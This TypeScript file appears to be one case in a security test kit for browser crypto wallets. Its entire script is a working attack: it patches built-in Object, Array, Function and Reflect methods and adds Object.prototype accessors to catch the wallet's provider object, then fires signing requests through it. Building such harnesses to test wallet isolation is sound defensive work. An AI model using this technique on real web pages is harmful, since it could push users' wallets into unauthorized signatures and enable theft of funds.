import type { Attack } from './kit/attack.ts'
import { PROVIDER_KNOWN_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'global',
  how: "Replaces what the wallet's own in-page code uses (EventEmitter, Promise, Object methods), to be handed its provider in a call that passes.",
  script: `
    const seen = new WeakSet([ethereum])
    const use = (value) => {
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) return
      seen.add(value)
      try { if (typeof value.request === 'function') value.request(attack.sign).catch(() => {}) } catch {}
    }
    const wrap = (owner, name) => {
      const original = owner[name]
      if (typeof original !== 'function') return
      owner[name] = function (...args) {
        use(this)
        for (let i = 0; i < args.length; i++) use(args[i])
        return Reflect.apply(original, this, args)
      }
    }
    const apply = Reflect.apply
    for (const name of ['assign', 'keys', 'entries', 'freeze', 'defineProperty', 'getOwnPropertyDescriptor', 'getPrototypeOf']) wrap(Object, name)
    for (const name of ['push', 'slice', 'includes', 'forEach', 'map', 'concat', 'shift', 'splice']) wrap(Array.prototype, name)
    for (const name of ['bind', 'call']) {
      const original = Function.prototype[name]
      Function.prototype[name] = function (...args) { use(args[0]); return apply(original, this, args) }
    }
    Reflect.apply = (f, self, args) => { use(self); return apply(f, self, args) }
    for (const name of ['_events', '_eventsCount', '_maxListeners', 'domain', 'once', 'listener']) {
      Object.defineProperty(Object.prototype, name, { configurable: true, get() { use(this); return undefined }, set(value) { use(this); Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true }) } })
    }
    for (const door of [() => ethereum.request({ method: 'eth_chainId' }), () => ethereum.request({ method: 'eth_accounts' }), () => ethereum.send('eth_chainId'), () => ethereum.sendAsync({ id: 1, method: 'eth_chainId' }, () => {}), () => ethereum.on('connect', () => {}), () => ethereum.isConnected(), () => ethereum.request(attack.sign)]) try { door() } catch {}
    await attack.sleep(400)
  `,
  open: { 'wallet-before': PROVIDER_KNOWN_FIRST },
} satisfies Attack
